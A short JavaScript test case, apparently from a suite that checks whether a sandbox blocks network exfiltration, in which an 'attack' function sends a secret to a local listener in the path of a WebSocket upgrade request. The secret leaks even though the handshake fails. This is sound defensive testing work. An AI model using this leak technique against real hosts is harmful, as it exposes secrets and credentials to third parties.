// Global WebSocket (Node 22+): the upgrade request carries the secret in its path (the listener
// answers 200, so the handshake then fails: the leak already happened).
export const meta = { kind: 'network', evidence: 'tcp', minNode: 22, noErrorCode: true };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    const ws = new WebSocket(`ws://127.0.0.1:${ctx.tcpPort}/${ctx.secret}`);
    ws.addEventListener('error', (event) => {
      const error = new Error('websocket error');
      error.code = event?.error?.cause?.code ?? event?.error?.code ?? 'WS_ERROR';
      reject(error);
    });
  });
}
